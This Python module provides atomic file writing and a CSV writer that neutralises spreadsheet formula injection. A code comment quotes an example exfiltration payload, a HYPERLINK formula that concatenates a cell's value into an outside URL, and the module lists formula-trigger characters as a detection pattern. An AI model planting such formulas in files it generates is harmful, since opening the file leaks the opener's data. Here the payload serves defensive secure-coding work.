"""Writing a file so that no reader, and no crash, ever sees half of it under its real name.

The one write-then-rename is ``runner.atomic_output`` (a temporary file beside the final one,
tagged with its owner so a crashed run's leftovers are swept, renamed in one step); these are
its forms for everything that is not an ffmpeg output: reports, records, SRT files, logos.
And the one way to write a CSV: :class:`SafeCsvWriter`, whose cells no spreadsheet runs.
"""

from __future__ import annotations

import csv
import re
from contextlib import contextmanager
from pathlib import Path
from typing import IO, Any, Iterable, Iterator

from overlay.runner import atomic_output


@contextmanager
def replacing(final: Path) -> Iterator[Path]:
    """Yield a temporary path; on success it replaces ``final``; on any failure it is removed."""
    with atomic_output(Path(final), force=True) as temp:
        yield temp


def write_atomic(path: Path, data: bytes | str) -> Path:
    """Write ``data`` (text as UTF-8, newlines as given) to ``path``, all or nothing."""
    with replacing(path) as temp:
        temp.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return path


# ---------------------------------------------------------------- spreadsheet-safe CSV

# A cell that starts with one of these is read by Excel (and LibreOffice, Google Sheets) as a
# formula: ``=HYPERLINK("http://…"&A2,"Open")`` in a district's report would run when the
# province opens audit.csv. OWASP's advice: start such a cell with a single quote.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_cell(value: Any) -> Any:
    """``value`` as a CSV cell no spreadsheet runs as a formula; numbers (and number text
    such as a loudness of ``-14.2``) are left as they are, and so is everything else."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


class SafeCsvWriter:
    """``csv.writer`` whose every cell goes through :func:`spreadsheet_cell`: the one way the
    project writes a CSV (audit.csv, batch-report.csv)."""

    def __init__(self, stream: IO[str], **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([spreadsheet_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
